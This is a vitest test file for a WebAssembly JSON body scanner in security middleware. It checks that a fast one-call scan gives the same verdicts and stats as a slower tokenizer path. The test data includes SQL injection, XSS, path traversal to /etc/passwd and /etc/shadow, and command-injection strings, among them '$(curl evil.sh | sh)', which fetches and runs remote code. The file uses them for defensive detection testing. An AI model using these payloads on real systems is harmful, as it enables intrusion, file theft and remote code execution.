// A JSON body that arrives whole in wasm memory is walked and scanned in one wasm call
// (assembly/scanner/json.ts). Only its "clean" verdict is used; anything else goes to the
// host tokenizer. So it must agree with that tokenizer on every document: the same verdict,
// the same malformed flag, the same values and bytes counted in the stats.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createArena, createDetector, createStandardPools, type Arena, type Detector } from '../../src/index.js';
import { createBodyScanner } from '../../src/middleware/body-scan.js';
import type { GuardDetector } from '../../src/middleware/detector.js';

let arena: Arena;
let detector: Detector;
/** The same detector without its one-call walk: the body scanner then tokenizes in TypeScript. */
let valueByValue: GuardDetector;
beforeAll(async () => {
  arena = await createArena({ pools: createStandardPools() });
  detector = await createDetector({ arena });
  valueByValue = new Proxy(detector, {
    get: (target, key) => (key === 'scanJsonAt' ? undefined : typeof Reflect.get(target, key) === 'function'
      ? (Reflect.get(target, key) as (...a: unknown[]) => unknown).bind(target) : Reflect.get(target, key)),
  }) as unknown as GuardDetector;
});
afterAll(async () => {
  await detector.close();
  await arena.close();
});

const enc = new TextEncoder();

/** Scan `text` as one in-place chunk, as the middleware does; the stats it added too. */
function scanWhole(d: GuardDetector, text: string) {
  const bytes = enc.encode(text);
  const before = detector.getStats();
  const lease = arena.poolFor(Math.max(1, bytes.length)).acquire();
  try {
    lease.write(bytes);
    const scanner = createBodyScanner(d, 'application/json');
    scanner.push(bytes, lease.bytes.byteOffset);
    const r = scanner.finish();
    const after = detector.getStats();
    return {
      malformed: scanner.malformed,
      blocked: r.blocked,
      score: r.score,
      threats: r.threats.map((t) => `${t.ruleId}@${t.location}:${t.offset}+${t.length}`).sort(),
      scans: after.scans - before.scans,
      bytes: after.bytesScanned - before.bytesScanned,
    };
  } finally {
    lease.release();
    detector.endFields(-1);
  }
}

function expectSameAsValueByValue(text: string): ReturnType<typeof scanWhole> {
  const oneCall = scanWhole(detector as unknown as GuardDetector, text);
  expect(oneCall, text.slice(0, 200)).toEqual(scanWhole(valueByValue, text));
  return oneCall;
}

const ATTACKS = [
  "1' OR '1'='1' -- ", '<img src=x onerror=alert(1)>', '; cat /etc/passwd', '../../../../etc/shadow',
  '<script>alert(document.cookie)</script>', "admin'--", '1 UNION SELECT password FROM users', '$(curl evil.sh | sh)',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', 'javascript:alert(1)', '..\\\\..\\\\windows\\\\win.ini', '{"$gt": ""}',
];
const WORDS = ['name', 'price', 'settings', 'review', 'for', 'the', 'Ana Maria', 'ana@example.com', 'SKU-123', 'x', '', 'a\\"b', 'tab\\tnew\\nline', 'caf\u00e9', '\u65e5\u672c', '1.5', 'or', 'select', 'and'];

/** A deterministic random JSON document: nested objects and arrays, keys and values from the lists above. */
function randomDocument(seed: number, attackRate: number): string {
  let s = seed >>> 0;
  const next = (n: number) => { s = (Math.imul(s, 1664525) + 1013904223) >>> 0; return s % n; };
  const str = () => `"${attackRate > 0 && next(100) < attackRate ? ATTACKS[next(ATTACKS.length)]!.replace(/"/g, '\\"') : WORDS[next(WORDS.length)]}"`;
  const value = (depth: number): string => {
    const k = next(depth > 4 ? 3 : 6);
    if (k === 0) return str();
    if (k === 1) return ['1', '-2.5e3', 'true', 'false', 'null'][next(5)]!;
    if (k === 2) return str();
    if (k === 3) return `[${Array.from({ length: next(4) }, () => value(depth + 1)).join(',')}]`;
    return `{${Array.from({ length: next(5) }, () => `${str()}:${value(depth + 1)}`).join(', ')}}`;
  };
  return `{"root":${value(0)},"list":[${Array.from({ length: 1 + next(6) }, () => `{"sku":${str()},"qty":${next(9)},"text":${str()}}`).join(',')}]}`;
}

describe('one-call JSON walk', () => {
  it('agrees with the value-by-value walk on clean and attacked documents', () => {
    let clean = 0;
    for (let seed = 1; seed <= 300; seed++) {
      const r = expectSameAsValueByValue(randomDocument(seed, seed % 3 === 0 ? 0 : 12));
      if (r.threats.length === 0) clean++;
    }
    expect(clean).toBeGreaterThan(50); // both outcomes were exercised
    expect(clean).toBeLessThan(300);
  });

  it('agrees on values of plain words, which the walk may settle without a scan', () => {
    // (json.ts's quietWords: letters and digits between spaces, no keyword, no word glued to a
    // leading digit, none longer than 32 bytes; anything else goes through the scan)
    const values = [
      'Ana Maria', 'ANA  MARIA', ' great fast ', '12345', 'order 66', 'please SELECT all', 'UNION SELECT password FROM users',
      '0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd', '0x2e0x2e0x2f', 'a 0x2e0x2e0x2f0x2e0x2e0x2f', '1union 1select', 'x'.repeat(33), 'x'.repeat(70), 'onload',
      'id', 'Boise ID', 'ls', 'etc passwd', 'a b c d e f g', '',
    ];
    for (const v of values) expectSameAsValueByValue(JSON.stringify({ text: v, [v.slice(0, 20)]: v }));
    // (hex-spelled ../ glued after a leading digit: short enough for the length rule to let it through)
    expect(expectSameAsValueByValue(JSON.stringify({ path: 'a 0x2e0x2e0x2f0x2e0x2e0x2f' })).blocked).toBe(true);
  });

  it('agrees on plain-word values of every length at every distance from the document\'s end', () => {
    // (quietWords checks 16 bytes at a time; a value's last block is read whole only when 16 bytes
    // of the document are there, else byte by byte: both ways, each lane count, a bad byte in each lane)
    for (let n = 0; n <= 40; n++) {
      for (const bad of [-1, 0, Math.floor(n / 2), n - 1]) {
        const chars = Array.from({ length: n }, (_, i) => (i % 7 === 6 ? ' ' : 'bcdfg'[i % 5]));
        if (bad >= 0 && bad < n) chars[bad] = '<';
        const v = chars.join('');
        for (const pad of [0, 3, 15, 16, 17]) expectSameAsValueByValue(`["${v}"${' '.repeat(pad)}]`);
        expectSameAsValueByValue(`{"k":"${v}","x":"${v.toUpperCase()}"}`);
      }
    }
  });

  it('agrees on malformed, cut and odd documents', () => {
    const docs = [
      '{"a": <b>}', '{"a": "unterminated', '{"a": [1, 2}', '', '   ', '{"a":1}}', '{"a":1} {"b":2}', '{"a":1},', ',{"a":1}',
      '[]', '{}', '[[[[]]]]', '"just a string"', '42', '{"a":"b\\"}', '{"a":"b\\\\"}', '{"a\\"":"x"}', '{"k":"v" "k2":"v2"}',
      '{"a" "b"}', '{"a":tru}', '{"a":1}\n', '\t{"a":[1,{"b":[]}]}  \r\n', '{"a":"<script>"}', '["<script>", "x"]',
      '{"x": "y"]', '[{"x": "y"}}', '{"a":"\\u003cimg src=x onerror=alert(1)\\u003e"}',
    ];
    for (const doc of docs) expectSameAsValueByValue(doc);
  });

  it('agrees past the host tokenizer\'s depth limit', () => {
    for (const depth of [511, 512, 513]) expectSameAsValueByValue(`${'['.repeat(depth)}"x"${']'.repeat(depth)}`);
  });

  it('counts repeated keys as the host does: memoised within a document, 16 at a time', () => {
    for (const distinct of [1, 15, 16, 17, 40]) {
      const keys = Array.from({ length: distinct }, (_, i) => `"key${i}":"v${i % 3}"`).join(',');
      const doc = `[${Array.from({ length: 4 }, () => `{${keys}}`).join(',')}]`;
      const r = expectSameAsValueByValue(doc);
      expect(r.threats).toEqual([]);
    }
  });

  it('answers a clean whole document in one call, and leaves anything else to the host', () => {
    const put = (text: string) => {
      const bytes = enc.encode(text);
      const lease = arena.poolFor(Math.max(1, bytes.length)).acquire();
      lease.write(bytes);
      const before = detector.getStats().scans;
      const r = detector.scanJsonAt(lease.bytes.byteOffset, bytes.length);
      const counted = detector.getStats().scans - before;
      lease.release();
      detector.endFields(-1);
      return { r, counted };
    };
    expect(put('{"user":{"name":"Ana","tags":["a","b"]},"n":1}')).toEqual({ r: null, counted: 7 }); // user, name, "Ana", tags, "a", "b", n
    for (const text of ['{"q":"1\' OR \'1\'=\'1"}', '{"a":"x"', '{"a":"x"}]', '{"a": x}', '']) {
      expect(put(text), text).toEqual({ r: undefined, counted: 0 });
    }
  });

  it('fails closed when the scan fails', async () => {
    const a = await createArena({ pools: createStandardPools() });
    const d = await createDetector({ arena: a });
    const bytes = enc.encode('{"a":"plain"}');
    const lease = a.poolFor(bytes.length).acquire();
    lease.write(bytes);
    d.injectScanFault();
    const scanner = createBodyScanner(d as unknown as GuardDetector, 'application/json');
    scanner.push(bytes, lease.bytes.byteOffset);
    const r = scanner.finish();
    expect(r.blocked).toBe(true);
    expect(r.threats.map((t) => `${t.ruleId}@${t.location}`)).toEqual(['internal.error@body:$']);
    expect(d.getStats().internalErrors).toBe(1);
    await d.close();
    await a.close();
  });
});
